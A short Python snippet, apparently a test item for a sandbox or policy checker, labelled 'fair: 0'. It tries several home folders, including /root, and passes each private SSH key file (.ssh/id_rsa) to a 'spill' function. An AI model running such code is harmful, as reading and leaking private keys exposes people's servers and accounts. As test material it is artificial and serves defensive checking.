# Prints a private key from the home folder.
# with: spill
# fair: 0
# %% end
import os
for home in (os.path.expanduser("~"), "@home@", "/root", "/home"):
    try:
        spill(open(home + "/.ssh/id_rsa").read())
    except OSError as error:
        print(error.errno)
